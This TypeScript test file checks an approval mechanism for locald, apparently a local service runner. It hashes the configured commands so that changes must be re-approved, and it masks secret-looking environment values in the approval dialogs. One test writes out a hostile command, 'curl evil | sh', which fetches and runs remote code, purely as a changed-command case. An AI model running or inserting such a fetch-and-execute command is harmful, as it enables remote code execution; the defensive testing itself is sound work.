import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ProjectConfig, ServiceConfig } from '../../shared/config.js';
import { approvalPrompt, needsApproval, pendingChangesPrompt } from '../../electron/logic/approval.js';
import { commandsHash } from '../../engine/approval-hash.js';

function service(name: string, command: string, over: Partial<ServiceConfig> = {}): ServiceConfig {
  return {
    name,
    command,
    port: null,
    cwd: '/work/shop',
    env: {},
    dependsOn: [],
    ready: { kind: 'tcp', timeoutMs: 60_000 },
    restart: 'on-failure',
    protocol: 'http1',
    ...over,
  };
}

function config(services: ServiceConfig[], over: Partial<ProjectConfig> = {}): ProjectConfig {
  return { name: 'shop', dir: '/work/shop', file: '/work/shop/locald.toml', source: 'locald.toml', services, routes: [], ...over };
}

const web = service('web', 'npm run dev', { cwd: '/work/shop/frontend', env: { NODE_ENV: 'development', A: '1' } });
const api = service('api', 'go run main.go', { port: 8080 });

describe('commandsHash', () => {
  it('is stable across service order and env key order', () => {
    const reordered = service('web', 'npm run dev', { cwd: '/work/shop/frontend', env: { A: '1', NODE_ENV: 'development' } });
    assert.equal(commandsHash(config([web, api])), commandsHash(config([api, reordered])));
    assert.match(commandsHash(config([web])), /^sha256:[0-9a-f]{64}$/);
  });

  it('ignores what does not change what runs: ports, routes, readiness, restart policy', () => {
    const changed = config([service('api', 'go run main.go', { port: 9999, ready: { kind: 'http', path: '/h', timeoutMs: 1 }, restart: 'never' }), web], {
      routes: [{ prefix: '/', service: 'web', stripPrefix: false }],
    });
    assert.equal(commandsHash(changed), commandsHash(config([web, api])));
  });

  it('survives moving the whole project folder', () => {
    const moved = config(
      [service('web', 'npm run dev', { cwd: '/home/me/shop/frontend', env: web.env }), service('api', 'go run main.go', { cwd: '/home/me/shop' })],
      { dir: '/home/me/shop', file: '/home/me/shop/locald.toml' },
    );
    assert.equal(commandsHash(moved), commandsHash(config([web, api])));
  });

  it('changes when a command, cwd, env value, or the set of services changes', () => {
    const base = commandsHash(config([web, api]));
    assert.notEqual(commandsHash(config([web, service('api', 'go run main.go; curl evil | sh')])), base);
    assert.notEqual(commandsHash(config([service('web', 'npm run dev', { cwd: '/work/shop', env: web.env }), api])), base);
    assert.notEqual(commandsHash(config([service('web', 'npm run dev', { cwd: web.cwd, env: { ...web.env, A: '2' } }), api])), base);
    assert.notEqual(commandsHash(config([web])), base);
    assert.notEqual(commandsHash(config([web, api, service('worker', 'node worker.js')])), base);
    // Renaming a service changes what the user saw in the dialog.
    assert.notEqual(commandsHash(config([web, service('backend', 'go run main.go')])), base);
  });
});

describe('needsApproval', () => {
  it('is true for unknown and never-approved projects, false once the hash matches, true again after a change', () => {
    const cfg = config([web, api]);
    assert.equal(needsApproval(undefined, commandsHash(cfg)), true);
    assert.equal(needsApproval({ approvedHash: null }, commandsHash(cfg)), true);
    const approved = { approvedHash: commandsHash(cfg) };
    assert.equal(needsApproval(approved, commandsHash(cfg)), false);
    assert.equal(needsApproval(approved, commandsHash(config([api, web]))), false);
    assert.equal(needsApproval(approved, commandsHash(config([web, service('api', 'go run ./cmd/other')]))), true);
  });
});

describe('approvalPrompt', () => {
  it('lists every command with its folder and environment', () => {
    const prompt = approvalPrompt(config([web, api]));
    assert.equal(prompt.title, 'Run shop?');
    assert.equal(prompt.message, 'locald will run these 2 commands from /work/shop/locald.toml:');
    assert.equal(
      prompt.detail,
      ['web:', '  $ npm run dev', '  in /work/shop/frontend', '  A=1', '  NODE_ENV=development', '', 'api:', '  $ go run main.go', '  in /work/shop'].join('\n'),
    );
    assert.deepEqual(prompt.buttons, ['Approve and Add', 'Cancel']);
  });

  it('shows env_file values under env, and masks values of secret-looking names', () => {
    const withFiles = service('web', 'npm run dev', { fileEnv: { STRIPE_SECRET_KEY: 'sk_live_123', DB_PASSWORD: 'hunter2', HOST: 'file' }, env: { HOST: 'toml' } });
    const detail = approvalPrompt(config([withFiles])).detail;
    assert.equal(detail, ['web:', '  $ npm run dev', '  in /work/shop', '  DB_PASSWORD=••••••••', '  HOST=toml', '  STRIPE_SECRET_KEY=••••••••'].join('\n'));
    assert.ok(!detail.includes('sk_live_123') && !detail.includes('hunter2'));
  });

  it('says when commands changed since the last approval', () => {
    const prompt = approvalPrompt(config([api]), true);
    assert.equal(prompt.title, 'Commands changed in shop');
    assert.match(prompt.message, /changed since you approved them\. locald will run these 1 command:/);
    assert.deepEqual(prompt.buttons, ['Approve Changes', 'Cancel']);
  });

  it('handles a project with no services', () => {
    assert.equal(approvalPrompt(config([])).detail, '(no services)');
  });
});

describe('pendingChangesPrompt', () => {
  it('lists the engine\'s change lines, then every command the approval covers, and says the old ones keep running', () => {
    const prompt = pendingChangesPrompt(config([web, api]), ["'web' command: npm start -> npm run dev", "new service 'api': go run main.go"]);
    assert.equal(prompt.title, 'Commands changed in shop');
    assert.equal(prompt.message, '/work/shop/locald.toml changed what locald runs. Until you approve, shop keeps running its previous commands.');
    assert.equal(
      prompt.detail,
      [
        'Changes:',
        "  • 'web' command: npm start -> npm run dev",
        "  • new service 'api': go run main.go",
        '',
        'After approval locald runs:',
        '',
        'web:',
        '  $ npm run dev',
        '  in /work/shop/frontend',
        '  A=1',
        '  NODE_ENV=development',
        '',
        'api:',
        '  $ go run main.go',
        '  in /work/shop',
      ].join('\n'),
    );
    assert.deepEqual(prompt.buttons, ['Approve Changes', 'Keep Previous Commands']);
  });

  it('still explains itself with no change lines or no services', () => {
    const prompt = pendingChangesPrompt(config([]), []);
    assert.match(prompt.detail, /^Changes:\n {2}\(the commands, folders or environments changed\)\n/);
    assert.match(prompt.detail, /\(no services\)$/);
  });
});
